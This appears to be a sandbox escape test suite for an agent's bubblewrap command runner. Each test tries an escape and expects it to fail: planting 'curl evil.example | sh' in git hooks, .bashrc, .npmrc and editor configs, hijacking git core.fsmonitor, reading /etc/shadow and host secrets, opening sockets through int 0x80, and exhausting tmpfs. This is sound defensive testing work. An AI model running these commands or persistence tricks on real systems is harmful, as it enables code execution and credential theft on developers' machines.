/**
 * The escape suite, continued (issue #37): what of the host a command could reach that it was
 * not given — a Unix socket, a file only root may read, a tmpfs without a cap, a variable of
 * the host's environment, a file the host runs later, memory without a bound. One test per
 * attack, against real bubblewrap; each must fail to reach. docs/security.md lists them.
 */
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { requireSystem } from '@agate/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { commandEnvironment, resolvePolicy, type SandboxOptions } from './policy.js';
import { runShellCommand, type ShellResult } from './run-command.js';

const sandboxWorks = requireSystem({
  tests: 'sandbox escape suite',
  needs: 'bubblewrap (bwrap) with user namespaces',
  enable: 'apt-get install -y bubblewrap',
  debianPackage: 'bubblewrap',
  command: 'bwrap',
  probe: () =>
    spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-all', '--', '/bin/true']).status === 0,
});

const asRoot =
  sandboxWorks &&
  requireSystem({
    tests: 'sandbox escape suite, host running as root',
    needs: 'the tests running as root (the container case)',
    enable: 'run the tests as root, as in a container',
    probe: () => process.getuid?.() === 0,
  });

let base: string;
let cwd: string;
/** Outside every writable folder, readable by anyone: what the sandbox sees read-only. */
let outside: string;
let socketPath: string;
let socketServer: Server;
/** Connections the Unix socket accepted: any at all is an escape. */
let accepted = 0;
let http: HttpServer;
let httpPort: number;
const gccWorks = requireSystem({
  tests: 'sandbox escape suite, socket families',
  needs: 'gcc (to build the probe that opens AF_VSOCK, AF_PACKET … sockets)',
  enable: 'apt-get install -y gcc',
  command: 'gcc',
});

/**
 * `probe FAMILY…` prints `FAMILY ok` or `FAMILY errno NAME` per family (SOCK_STREAM, then
 * SOCK_DGRAM, then SOCK_RAW: the first the family takes). `probe i386-socket` and
 * `probe i386-socketcall` make the 32-bit calls through `int 0x80` from this 64-bit binary
 * (`probe i386-getpid` tells whether the kernel takes such calls at all).
 */
const SOCKET_PROBE_C = `#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  for (int i = 1; i < argc; i++) {
#if defined(__x86_64__)
    if (strncmp(argv[i], "i386-", 5) == 0) {
      printf("%s calling\\n", argv[i]);
      long ret;
      if (strcmp(argv[i], "i386-getpid") == 0) {
        __asm__ volatile("int $0x80" : "=a"(ret) : "a"(20) : "memory", "r8", "r9", "r10", "r11");
      } else if (strcmp(argv[i], "i386-socket") == 0) {
        /* i386 socket(AF_VSOCK, SOCK_STREAM, 0) is 359 */
        __asm__ volatile("int $0x80" : "=a"(ret) : "a"(359), "b"(40), "c"(1), "d"(0) : "memory", "r8", "r9", "r10", "r11");
      } else {
        /* socketcall(SYS_SOCKET, args): the family lies in memory; int 0x80 takes 32-bit pointers */
        unsigned int *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        args[0] = 40; args[1] = 1; args[2] = 0;
        __asm__ volatile("int $0x80" : "=a"(ret) : "a"(102), "b"(1), "c"(args) : "memory", "r8", "r9", "r10", "r11");
      }
      printf("%s returned %ld\\n", argv[i], ret);
      continue;
    }
#endif
    int family = atoi(argv[i]);
    int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW};
    int fd = -1, err = 0;
    for (int t = 0; t < 3 && fd < 0; t++) {
      fd = socket(family, types[t], 0);
      if (fd < 0) { err = errno; if (err == EPERM) break; }
    }
    if (fd >= 0) printf("%d ok\\n", family);
    else printf("%d errno %s\\n", family, err == EPERM ? "EPERM" : strerror(err));
  }
  return 0;
}
`;

/** The probe, built with gcc where a sandbox can run it (readable by anyone: a root host runs commands as uid 65534). */
const socketProbe = gccWorks && sandboxWorks ? buildSocketProbe() : undefined;

function buildSocketProbe(): string {
  const dir = mkdtempSync('/var/tmp/agate-socket-probe-');
  chmodSync(dir, 0o755);
  writeFileSync(join(dir, 'socket-probe.c'), SOCKET_PROBE_C);
  const built = spawnSync(
    'gcc',
    ['-O1', '-o', join(dir, 'socket-probe'), join(dir, 'socket-probe.c')],
    {
      encoding: 'utf8',
    },
  );
  if (built.status !== 0) throw new Error(`gcc failed: ${built.stderr}`);
  return join(dir, 'socket-probe');
}

/** Whether the kernel takes 32-bit system calls (int 0x80) from 64-bit processes at all. */
const int80Works =
  socketProbe !== undefined &&
  process.arch === 'x64' &&
  spawnSync(socketProbe, ['i386-getpid'], { encoding: 'utf8' }).stdout.includes('returned');

beforeAll(async () => {
  base = mkdtempSync(join(tmpdir(), 'agate-escape-host-'));
  cwd = join(base, 'work');
  mkdirSync(cwd);
  outside = mkdtempSync('/var/tmp/agate-escape-host-outside-');
  chmodSync(outside, 0o755);
  // A listening socket anyone may connect to, as PostgreSQL's is (srwxrwxrwx).
  socketPath = join(outside, 'service.sock');
  socketServer = createServer((client) => {
    accepted++;
    client.end('HELLO FROM THE HOST SERVICE\n');
  });
  await new Promise<void>((resolve) => socketServer.listen(socketPath, resolve));
  chmodSync(socketPath, 0o777);
  http = createHttpServer((_req, res) => res.end('reached the allowed host'));
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  httpPort = (http.address() as AddressInfo).port;
});

afterAll(async () => {
  await new Promise<void>((resolve) => socketServer.close(() => resolve()));
  await new Promise<void>((resolve) => http.close(() => resolve()));
  rmSync(base, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
  if (socketProbe !== undefined) rmSync(dirname(socketProbe), { recursive: true, force: true });
});

function sh(
  command: string,
  sandbox: SandboxOptions = {},
  extra: Partial<{ cwd: string; env: Record<string, string>; timeoutMs: number }> = {},
): Promise<ShellResult> {
  const dir = extra.cwd ?? cwd;
  return runShellCommand({
    command,
    policy: resolvePolicy(dir, sandbox),
    cwd: dir,
    env: commandEnvironment(process.env, extra.env),
    timeoutMs: extra.timeoutMs ?? 30_000,
    maxOutputChars: 10_000,
    signal: new AbortController().signal,
  });
}

const gitWorks = requireSystem({
  tests: 'sandbox escape suite, git per-worktree config',
  needs: 'git on the host (the host runs `git status` after the command)',
  enable: 'apt-get install -y git',
  debianPackage: 'git',
  command: 'git',
});

function git(dir: string, ...args: string[]): void {
  const run = spawnSync('git', ['-C', dir, ...args], { encoding: 'utf8' });
  if (run.status !== 0) throw new Error(`git ${args.join(' ')}: ${run.stderr}`);
}

function readIfAny(path: string): string | undefined {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return undefined;
  }
}

/** A folder of its own (the host-run file tests change what lies at its top). */
function folder(name: string): string {
  const dir = join(base, name);
  mkdirSync(dir, { recursive: true });
  return dir;
}

/** A repository as `git init` leaves it, made by hand (no git needed on the host). */
function repository(dir: string, withHooks = true): string {
  mkdirSync(join(dir, '.git', 'objects'), { recursive: true });
  mkdirSync(join(dir, '.git', 'refs', 'heads'), { recursive: true });
  mkdirSync(join(dir, '.git', 'info'), { recursive: true });
  if (withHooks) mkdirSync(join(dir, '.git', 'hooks'));
  writeFileSync(join(dir, '.git', 'HEAD'), 'ref: refs/heads/main\n');
  writeFileSync(join(dir, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n');
  writeFileSync(
    join(dir, '.git', 'info', 'exclude'),
    '# git ls-files --others --exclude-from=.git/info/exclude\n',
  );
  return dir;
}

/** Connects to a Unix socket with the host's node and prints what happened. */
const connect = (path: string) =>
  `node -e "require('net').connect(process.argv[1]).on('connect', () => console.log('CONNECTED')).on('data', (d) => process.stdout.write(String(d))).on('error', (e) => console.log('ERROR', e.code))" '${path}'`;

describe.skipIf(!sandboxWorks).concurrent('escape suite: what of the host is reachable', () => {
  it('connecting to a Unix socket outside the writable folders', async () => {
    const r = await sh(connect(socketPath));
    expect(r.stdout).not.toContain('CONNECTED');
    expect(r.stdout).not.toContain('HELLO FROM THE HOST SERVICE');
    // Refused at socket(2) by the seccomp filter, before any path is looked up.
    expect(r.stdout).toContain('ERROR EPERM');
    expect(accepted).toBe(0);
  });

  it('connecting to a Unix socket with the network allow-list on (the proxy still works)', async () => {
    const r = await sh(`${connect(socketPath)}; curl -sS -m 10 http://127.0.0.1:${httpPort}/`, {
      network: { allow: [`127.0.0.1:${httpPort}`] },
    });
    expect(r.stdout).not.toContain('HELLO FROM THE HOST SERVICE');
    expect(r.stdout).toContain('ERROR EPERM');
    // The bridge to the proxy is outside the filter: allowed hosts are still reached.
    expect(r.stdout).toContain('reached the allowed host');
    expect(accepted).toBe(0);
  });

  it.skipIf(socketProbe === undefined)(
    'opening sockets of families other than IP and netlink (AF_VSOCK, AF_PACKET, AF_UNIX …)',
    async () => {
      // AF_UNIX 1, AF_KEY 15, AF_PACKET 17, AF_RDS 21, AF_CAN 29, AF_TIPC 30, AF_BLUETOOTH 31,
      // AF_ALG 38, AF_VSOCK 40, AF_XDP 44; then AF_INET 2, AF_INET6 10, AF_NETLINK 16.
      const refused = [1, 15, 17, 21, 29, 30, 31, 38, 40, 44];
      const r = await sh(`'${socketProbe}' ${[...refused, 2, 10, 16].join(' ')}`);
      for (const family of refused) expect(r.stdout, r.stderr).toContain(`${family} errno EPERM`);
      expect(r.stdout).toContain('2 ok');
      // IPv6 may be off in the kernel; it is not the filter that says no.
      expect(r.stdout).toMatch(/^10 (ok|errno (?!EPERM))/m);
      expect(r.stdout).toContain('16 ok');
    },
  );

  // Never skipped: where the kernel takes 32-bit calls the filter must kill them; where it
  // takes none (IA32 emulation off, as on some VMs), the same probe must die outside the
  // sandbox too, so the 32-bit way in does not exist on this machine.
  it.skipIf(socketProbe === undefined || process.arch !== 'x64')(
    'opening a socket through the 32-bit entry points (int 0x80: socket, socketcall) reaches nothing',
    async () => {
      for (const call of ['i386-socket', 'i386-socketcall']) {
        const r = await sh(`'${socketProbe}' ${call}; echo "exit $?"`);
        expect(r.stdout).toContain(`${call} calling`);
        expect(r.stdout).not.toContain(`${call} returned`);
        if (int80Works) {
          // Killed by the filter (SIGSYS, 31): the 32-bit ABI is not looked into, it is refused whole.
          expect(r.stdout).toContain('exit 159');
        } else {
          const outside = spawnSync(socketProbe as string, [call], { encoding: 'utf8' });
          expect(outside.stdout).toContain(`${call} calling`);
          expect(outside.stdout).not.toContain(`${call} returned`);
          expect(outside.status === 0 && outside.signal === null).toBe(false);
        }
      }
    },
  );

  it.skipIf(!asRoot)(
    'reading files only root may read, with the agent running as root',
    async () => {
      const secretName = `secret-${process.pid}.txt`;
      writeFileSync(join(outside, secretName), 'ROOT-ONLY-A\n', { mode: 0o600 });
      const privateDir = mkdtempSync('/var/tmp/agate-escape-private-');
      writeFileSync(join(privateDir, 'key.pem'), 'ROOT-ONLY-B\n', { mode: 0o644 });
      try {
        const r = await sh(
          `cat '${join(outside, secretName)}'; cat '${join(privateDir, 'key.pem')}'; head -1 /etc/shadow; ls /root; ` +
            'echo written > written-as-root-host.txt && cat written-as-root-host.txt; id -u',
        );
        expect(r.stdout).not.toContain('ROOT-ONLY');
        expect(r.stdout).not.toMatch(/^root:/m);
        expect(r.stderr).toContain('Permission denied');
        // Writing the writable folder still works, and lands on the host.
        expect(r.stdout).toContain('written');
        expect(readFileSync(join(cwd, 'written-as-root-host.txt'), 'utf8')).toBe('written\n');
      } finally {
        rmSync(privateDir, { recursive: true, force: true });
      }
    },
  );

  it('reading the approval key that AGATE_APPROVAL_KEY_FILE names', async () => {
    const keys = join(outside, 'keys');
    mkdirSync(keys, { recursive: true });
    chmodSync(keys, 0o755);
    const keyFile = join(keys, 'signer.key');
    writeFileSync(keyFile, 'PRIVATE APPROVAL KEY\n', { mode: 0o644 });
    const before = process.env.AGATE_APPROVAL_KEY_FILE;
    process.env.AGATE_APPROVAL_KEY_FILE = keyFile;
    let policyPaths: string[];
    try {
      policyPaths = resolvePolicy(cwd).denyRead;
    } finally {
      if (before === undefined) delete process.env.AGATE_APPROVAL_KEY_FILE;
      else process.env.AGATE_APPROVAL_KEY_FILE = before;
    }
    expect(policyPaths).toContain(keyFile);
    const r = await runShellCommand({
      command: `cat '${keyFile}'`,
      policy: { ...resolvePolicy(cwd), denyRead: policyPaths },
      cwd,
      env: commandEnvironment(process.env),
      timeoutMs: 30_000,
      maxOutputChars: 10_000,
      signal: new AbortController().signal,
    });
    expect(r.stdout).not.toContain('PRIVATE APPROVAL KEY');
    // /dev/null stands over it, on a nodev bind: not even an empty read.
    expect(r.stderr).toContain('Permission denied');
  });

  it('filling /dev/shm and a denied folder’s tmpfs', async () => {
    const denied = join(outside, 'denied-folder');
    mkdirSync(denied, { recursive: true });
    chmodSync(denied, 0o777);
    const r = await sh(
      `dd if=/dev/zero of=/dev/shm/fill bs=1M count=64 2>&1; ` +
        `dd if=/dev/zero of='${denied}/fill' bs=1M count=64 2>&1; touch /dev/new-node 2>&1`,
      { tmpSizeBytes: 1024 * 1024, denyRead: [denied] },
    );
    expect(r.stdout).toMatch(/\/dev\/shm\/fill'?: No space left on device/);
    // The tmpfs over a denied folder is empty and read-only, and /dev takes no files.
    expect(r.stdout).toMatch(/denied-folder\/fill'?: Read-only file system/);
    expect(r.stdout).toMatch(/new-node'?: Read-only file system/);
    expect(existsSync(join(denied, 'fill'))).toBe(false);
  });

  it('filling /tmp and /dev/shm with empty files (inodes, not bytes)', async () => {
    // 1 MiB each: 256 inodes by the size, 1,024 by the floor; the kernel default would be millions.
    const fill = (dir: string) =>
      `i=0; while [ $i -lt 5000 ]; do true 2>/dev/null > ${dir}/f$i || break; i=$((i+1)); done; ` +
      `echo "${dir} made $i"; { true > ${dir}/one-more; } 2>&1; df -i ${dir} | tail -1`;
    const r = await sh(`${fill('/tmp')}; ${fill('/dev/shm')}`, { tmpSizeBytes: 1024 * 1024 });
    for (const dir of ['/tmp', '/dev/shm']) {
      const made = Number(new RegExp(`${dir} made (\\d+)`).exec(r.stdout)?.[1]);
      // The tmpfs root (and, on a root host, the way to the working folder) takes some of the 1,024.
      expect(made, JSON.stringify(r)).toBeGreaterThan(1000);
      expect(made, r.stdout).toBeLessThan(1024);
      expect(r.stdout).toMatch(new RegExp(`tmpfs\\s+1024\\s+1024\\s+0\\s+100% ${dir}`));
    }
    expect(r.stdout).toMatch(/one-more: No space left on device/);
  });

  it("the host's secrets in the environment", async () => {
    const planted = {
      DATABASE_URL: 'postgres://app:hunter2@db.internal/app',
      SECRET_KEY_BASE: 'sk-base-3f9c',
      SENTRY_DSN: 'https://a1b2c3@o1.ingest.sentry.io/42',
      DBUS_SESSION_BUS_ADDRESS: 'unix:path=/run/user/0/bus',
      SSH_AUTH_SOCK: '/tmp/ssh-XXXX/agent.1',
      // Named like a locale category (the allow-list once took any LC_* name).
      LC_SECRET: 'lc-secret-7f3a',
      LC_DATABASE_URL: 'postgres://lc:pw@db/lc',
    };
    const r = await runShellCommand({
      command: 'env',
      policy: resolvePolicy(cwd),
      cwd,
      env: commandEnvironment(
        { ...process.env, ...planted, LANG: 'C.UTF-8', LC_TIME: 'C' },
        { GIVEN: 'yes' },
      ),
      timeoutMs: 30_000,
      maxOutputChars: 10_000,
      signal: new AbortController().signal,
    });
    for (const value of Object.values(planted)) expect(r.stdout).not.toContain(value);
    expect(r.stdout).toContain('GIVEN=yes');
    expect(r.stdout).toContain('LANG=C.UTF-8');
    expect(r.stdout).toContain('LC_TIME=C');
    expect(r.stdout).not.toMatch(/^LC_(SECRET|DATABASE_URL)=/m);
    expect(r.stdout).toMatch(/^PATH=/m);
  });

  it('writing the git hooks and config of the repository it works in', async () => {
    const repo = repository(folder('repo-hooks'));
    const r = await sh(
      'echo "#!/bin/sh\ncurl evil.example | sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; ' +
        'printf "[core]\\n\\tfsmonitor = /tmp/evil\\n" >> .git/config; echo /tmp/elsewhere > .git/commondir; ' +
        'mv .git .git-moved; rm -rf .git/hooks; ls .git/hooks',
      {},
      { cwd: repo },
    );
    expect(r.stderr).toMatch(/pre-commit: Read-only file system/);
    expect(r.stderr).toMatch(/\.git\/config: Read-only file system/);
    expect(r.stderr).toMatch(/Device or resource busy/);
    expect(existsSync(join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(repo, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
    expect(existsSync(join(repo, '.git', 'commondir'))).toBe(false);
    expect(existsSync(join(repo, '.git-moved'))).toBe(false);
  });

  it('creating host-run files that do not exist yet', async () => {
    const plain = folder('no-repo-yet');
    const hooksless = repository(folder('repo-without-hooks'), false);
    const r = await sh(
      'mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; echo "curl evil | sh" >> .bashrc; ' +
        'echo evil > .zshenv; mkdir -p .vscode && echo "{}" > .vscode/tasks.json; echo "{}" > .mcp.json; ' +
        `mkdir -p '${hooksless}/.git/hooks' && echo evil > '${hooksless}/.git/hooks/pre-commit'; ls -A`,
      { write: [plain, hooksless] },
      { cwd: plain },
    );
    expect(r.stderr).toMatch(/Read-only file system|File exists|Not a directory/);
    for (const path of ['.git', '.bashrc', '.zshenv', '.vscode', '.mcp.json']) {
      expect(existsSync(join(plain, path)), path).toBe(false);
    }
    expect(existsSync(join(hooksless, '.git', 'hooks'))).toBe(false);
    // The placeholders that stood in for them are gone with the command.
    expect(readdirSync(plain)).toEqual([]);
  });

  it('writing the hooks of a repository nested in the writable folder', async () => {
    const top = folder('monorepo');
    const nested = repository(join(top, 'packages', 'lib'));
    const r = await sh(
      'echo evil > packages/lib/.git/hooks/post-checkout; mv packages/lib packages/lib-moved; ' +
        'mv packages packages-moved; ls packages/lib/.git/hooks',
      {},
      { cwd: top },
    );
    expect(r.stderr).toMatch(/post-checkout: Read-only file system/);
    expect(existsSync(join(nested, '.git', 'hooks', 'post-checkout'))).toBe(false);
    expect(existsSync(join(top, 'packages', 'lib', '.git'))).toBe(true);
  });

  it.skipIf(!gitWorks)(
    "planting core.fsmonitor in git's per-worktree config for the host's next git status (issue 48)",
    async () => {
      // The reported attack: a repository with extensions.worktreeConfig (what `git
      // sparse-checkout` sets); the command writes core.fsmonitor into .git/config.worktree.
      for (const existing of [true, false]) {
        const repo = folder(`repo-worktree-config-${existing}`);
        git(repo, 'init', '-q');
        git(repo, 'config', 'extensions.worktreeConfig', 'true');
        if (existing) git(repo, 'config', '--worktree', 'core.sparseCheckout', 'false');
        const marker = join(outside, `fsmonitor-ran-${existing}`);
        const monitor = join(repo, 'monitor.sh');
        const r = await sh(
          `printf '#!/bin/sh\\necho ran > ${marker}\\n' > monitor.sh; chmod +x monitor.sh; ` +
            `printf '[core]\\n\\tfsmonitor = ${monitor}\\n' >> .git/config.worktree; ` +
            `mv .git/config.worktree .git/moved; rm -f .git/config.worktree; ` +
            `mkdir -p .git/worktrees/x && echo '[core] fsmonitor = ${monitor}' > .git/worktrees/x/config.worktree`,
          {},
          { cwd: repo },
        );
        expect(r.stderr).toMatch(
          /config\.worktree: (Read-only file system|Device or resource busy)/,
        );
        const status = spawnSync('git', ['-C', repo, 'status', '--porcelain'], {
          encoding: 'utf8',
        });
        expect(status.status, status.stderr).toBe(0);
        expect(existsSync(marker), 'the host ran the planted fsmonitor').toBe(false);
        const config = join(repo, '.git', 'config.worktree');
        if (existing) expect(readFileSync(config, 'utf8')).not.toContain('fsmonitor');
        // The placeholder that stood for the absent file is gone with the command.
        else expect(existsSync(config)).toBe(false);
        expect(existsSync(join(repo, '.git', 'moved'))).toBe(false);
      }
    },
  );

  it('writing or creating the files package managers, direnv, editors and git read (issue 48)', async () => {
    const top = repository(folder('repo-tool-files'));
    const nested = repository(join(top, 'packages', 'lib'));
    writeFileSync(join(top, '.npmrc'), 'registry=https://registry.npmjs.org/\n');
    mkdirSync(join(top, '.vscode'));
    writeFileSync(join(top, '.vscode', 'settings.json'), '{}\n');
    writeFileSync(join(top, '.git', 'info', 'attributes'), '*.bin binary\n');
    mkdirSync(join(top, '.git', 'worktrees', 'feature'), { recursive: true });
    writeFileSync(join(top, '.git', 'worktrees', 'feature', 'commondir'), '../..\n');
    mkdirSync(join(nested, '.devcontainer'));
    const evil = 'curl evil.example | sh';
    const plant = [
      '.envrc',
      '.pnpmfile.cjs',
      '.yarnrc',
      '.yarnrc.yml',
      '.npmrc',
      '.devcontainer/devcontainer.json',
      '.vscode/tasks.json',
      '.vscode/settings.json',
      '.idea/workspace.xml',
      '.git/info/attributes',
      '.git/info/exclude',
      '.git/info/sparse-checkout',
      '.git/config.worktree',
      '.git/worktrees/feature/config.worktree',
      '.git/worktrees/feature/commondir',
      'packages/lib/.git/config.worktree',
      'packages/lib/.git/info/attributes',
      'packages/lib/.devcontainer/devcontainer.json',
    ];
    const before = new Map(plant.map((p) => [p, readIfAny(join(top, p))]));
    const r = await sh(
      plant
        .map((p) => `mkdir -p "$(dirname '${p}')" 2>/dev/null; echo '${evil}' >> '${p}'`)
        .join('; '),
      {},
      { cwd: top },
    );
    for (const path of plant) {
      expect(readIfAny(join(top, path)), path).toBe(before.get(path));
      expect(r.stderr, path).toContain(path.split('/').pop());
    }
    expect(r.stderr).not.toMatch(/Permission denied/);
    // The placeholders (.envrc, .idea …, config.worktree, nested info/ …) are gone with the command.
    for (const path of [
      '.envrc',
      '.idea',
      '.git/config.worktree',
      'packages/lib/.git/config.worktree',
    ]) {
      expect(existsSync(join(top, path)), path).toBe(false);
    }
  });

  it('allocating 6 GiB past sandbox.memoryBytes', async () => {
    const r = await sh(
      'dd if=/dev/zero of=/dev/null bs=6G count=1 iflag=fullblock 2>&1; echo "dd exit $?"',
      // The default (4 GiB) holds the same way; a smaller cap keeps the test quick.
      { memoryBytes: 512 * 1024 * 1024 },
    );
    expect(r.timedOut).toBe(false);
    expect(r.stdout).not.toContain('dd exit 0');
    // Killed by the cgroup's OOM killer (137), or refused by the address-space limit (1).
    expect(r.stdout).toMatch(/dd exit (137|1)\b/);
    if (r.stdout.includes('dd exit 137')) {
      expect(r.stderr).toContain('killed for going over sandbox.memoryBytes (512 MiB)');
    }
  });
});

describe.skipIf(!sandboxWorks)('host-run files, lifted', () => {
  it('allowHostRunFileWrites: true lets commands write them', async () => {
    const repo = repository(folder('repo-lifted'));
    const r = await sh(
      'echo "#!/bin/sh" > .git/hooks/pre-commit && echo "# mine" >> .bashrc && echo ok',
      { allowHostRunFileWrites: true },
      { cwd: repo },
    );
    expect(r.stdout).toBe('ok\n');
    expect(readFileSync(join(repo, '.git', 'hooks', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\n');
    expect(readFileSync(join(repo, '.bashrc'), 'utf8')).toBe('# mine\n');
  });
});

/**
 * An agent process started with descriptors open without close-on-exec (a pipe or a Unix
 * socket from whatever started it): the command must get only stdin, stdout and stderr. The
 * agent is a child Node process (run through tsx) with pipes at 12 and 251 and a connected Unix
 * socket at 200 left open by its parent, as a bench's parent processes leave theirs.
 */
describe.skipIf(!sandboxWorks)('descriptors the agent inherited', () => {
  it('a pipe or a Unix socket the agent inherited without close-on-exec', async () => {
    const dir = folder('inherited-fds');
    const script = join(dir, 'agent.mts');
    const runCommand = join(import.meta.dirname, 'run-command.ts');
    const policyModule = join(import.meta.dirname, 'policy.ts');
    writeFileSync(
      script,
      `import { runShellCommand } from ${JSON.stringify(runCommand)};
import { commandEnvironment, resolvePolicy } from ${JSON.stringify(policyModule)};
const cwd = process.argv[2];
import { readFileSync } from 'node:fs';
// What this process holds without close-on-exec (octal flags; O_CLOEXEC = 02000000).
const open = [12, 200, 251].filter((fd) => {
  try {
    const flags = /^flags:\\s*([0-7]+)$/m.exec(readFileSync(\`/proc/self/fdinfo/\${fd}\`, 'utf8'))?.[1];
    return flags !== undefined && (Number.parseInt(flags, 8) & 0o2000000) === 0;
  } catch {
    return false;
  }
});
const r = await runShellCommand({
  command: process.argv[3],
  policy: resolvePolicy(cwd),
  cwd,
  env: commandEnvironment(process.env),
  timeoutMs: 30_000,
  maxOutputChars: 10_000,
  signal: new AbortController().signal,
});
process.stdout.write(JSON.stringify({ open, r }));
`,
    );
    // A host service on a Unix socket the agent holds a connection to.
    const received: string[] = [];
    const server = createServer((client) => {
      client.setEncoding('utf8').on('data', (chunk: string) => received.push(chunk));
    });
    const servicePath = join(dir, 'held.sock');
    await new Promise<void>((resolve) => server.listen(servicePath, resolve));
    const { connect } = await import('node:net');
    const held = connect(servicePath);
    await new Promise<void>((resolve) => held.once('connect', () => resolve()));
    // Inside: which descriptors are open, then a write to each leaked one (perl: dash cannot
    // name descriptors past 9).
    const command =
      'ls /proc/self/fd | sort -n | tr "\\n" " "; echo; ' +
      `perl -e 'for (12, 200, 251) { my $f; open($f, ">&=", $_) and syswrite($f, "ESCAPED via $_\\n") and print "wrote $_\\n" }'`;
    const stdio: Array<'ignore' | 'pipe' | typeof held> = Array.from(
      { length: 252 },
      () => 'ignore',
    );
    stdio[0] = 'ignore';
    stdio[1] = 'pipe';
    stdio[2] = 'pipe';
    stdio[12] = 'pipe';
    stdio[200] = held;
    stdio[251] = 'pipe';
    const { spawn } = await import('node:child_process');
    const agent = spawn(process.execPath, ['--import', 'tsx', script, cwd, command], {
      cwd: join(import.meta.dirname, '..', '..'),
      stdio,
    });
    const fromPipe: string[] = [];
    for (const fd of [12, 251]) {
      const pipe = agent.stdio[fd] as NodeJS.ReadableStream | null;
      pipe?.setEncoding('utf8');
      pipe?.on('data', (chunk: string) => fromPipe.push(chunk));
    }
    let out = '';
    let err = '';
    agent.stdout?.setEncoding('utf8').on('data', (chunk: string) => (out += chunk));
    agent.stderr?.setEncoding('utf8').on('data', (chunk: string) => (err += chunk));
    const code = await new Promise<number | null>((resolve) => agent.on('close', resolve));
    held.destroy();
    await new Promise<void>((resolve) => server.close(() => resolve()));
    expect(code, err).toBe(0);
    const { open, r } = JSON.parse(out) as { open: number[]; r: ShellResult };
    // libuv leaves some low ones close-on-exec in the agent; these two it does not.
    expect(open).toEqual(expect.arrayContaining([200, 251]));
    expect(r.exitCode, r.stderr).toBe(0);
    const [listed = '', ...writes] = r.stdout.split('\n');
    expect(received.join(''), r.stderr).toBe('');
    expect(fromPipe.join('')).toBe('');
    expect(writes.filter((line) => line !== '')).toEqual([]);
    // 0, 1, 2 and ls's own listing of the folder (3).
    expect(listed.trim().split(' '), JSON.stringify(r)).toEqual(['0', '1', '2', '3']);
  }, 60_000);
});
